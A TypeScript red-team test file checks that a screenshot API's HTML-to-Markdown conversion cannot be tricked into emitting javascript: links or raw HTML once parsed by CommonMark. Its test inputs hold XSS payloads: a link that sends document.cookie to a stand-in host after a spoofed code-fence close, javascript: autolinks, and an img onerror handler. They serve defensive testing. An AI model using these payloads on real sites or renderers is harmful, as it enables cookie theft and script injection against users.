import { Parser } from 'commonmark';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ARTICLE_PAGE } from '../helpers/articlePages';
import { type ScreenshotHarness, startScreenshotHarness } from '../helpers/screenshotHarness';

/**
 * Red team (round 5): docs/api.md 17.1 promises that "no page text ends a link or writes one" and that links go only
 * to http(s) and mailto. The Markdown is read here by a CommonMark parser (commonmark.js, the reference one), as an
 * agent's or a chat's renderer reads it: every link and image it finds, and every piece of raw HTML it passes on.
 */

let harness: ScreenshotHarness;
let account: Awaited<ReturnType<ScreenshotHarness['newAccount']>>;

beforeAll(async () => {
  harness = await startScreenshotHarness();
  account = await harness.newAccount();
}, 120_000);
afterAll(async () => {
  await harness?.close();
});

async function markdownOf(html: string): Promise<string> {
  const response = await harness.shoot(account.apiKey, { html, format: 'markdown' });
  expect(response.status).toBe(200);
  return response.body.toString('utf8');
}

/** What a CommonMark renderer makes clickable or passes on as HTML: link and image destinations, raw HTML. */
function rendered(markdown: string): { destinations: string[]; rawHtml: string[] } {
  const walker = new Parser().parse(markdown).walker();
  const destinations: string[] = [];
  const rawHtml: string[] = [];
  for (let step = walker.next(); step; step = walker.next()) {
    const { node, entering } = step;
    if (!entering) continue;
    if ((node.type === 'link' || node.type === 'image') && node.destination !== null)
      destinations.push(node.destination);
    if (node.type === 'html_inline' || node.type === 'html_block') rawHtml.push(node.literal ?? '');
  }
  return { destinations, rawHtml };
}

const allowed = (destination: string) => /^(?:https?:|mailto:|#)/i.test(destination);

const WHOLE_BODY = (part: string) => `<!doctype html><html><body><p>Shown text.</p>${part}</body></html>`;
const IN_ARTICLE = (part: string) =>
  ARTICLE_PAGE.replace('<h2>Measured heights</h2>', `${part}<h2>Measured heights</h2>`);

describe('page text read as Markdown syntax', () => {
  // Turndown's fencedCodeBlock makes its fence longer than any run of backticks that starts a line of the code,
  // but CommonMark also closes a fence with a line of up to three spaces before its backticks: the code's " \`\`\`"
  // line ends the block, and the lines after it are raw Markdown, never escaped (code text is written as is).
  it.each([
    ['the whole body', WHOLE_BODY],
    ['an article', IN_ARTICLE],
  ] as const)('cannot close a code block and write a javascript: link after it, in %s', async (_, place) => {
    const markdown = await markdownOf(
      place(`<pre><code>let shown = 1;
 \`\`\`
[Continue](javascript:fetch('https://evil.example/?'+document.cookie))
</code></pre>`),
    );
    expect(markdown).toContain('let shown = 1;');
    expect(rendered(markdown).destinations.filter((d) => !allowed(d))).toEqual([]);
  });

  // Turndown escapes brackets, backticks, stars and underscores in text, never '<': the page's visible text
  // "<javascript:alert(1)>" is a CommonMark autolink, and "<a href=...>" is raw HTML a renderer passes on. Both in
  // the whole body and inside an article Readability picks.
  it.each([
    ['the whole body', WHOLE_BODY],
    ['an article', IN_ARTICLE],
  ] as const)('cannot write an autolink or raw HTML with its text, in %s', async (_, place) => {
    const markdown = await markdownOf(
      place(`<p>Read on: &lt;javascript:alert(document.domain)&gt; or
        &lt;a href="javascript:alert(2)"&gt;Continue&lt;/a&gt; &lt;img src=x onerror=alert(3)&gt;</p>`),
    );
    expect(markdown).toContain('Read on');
    const { destinations, rawHtml } = rendered(markdown);
    expect(destinations.filter((d) => !allowed(d))).toEqual([]);
    expect(rawHtml).toEqual([]);
  });
});
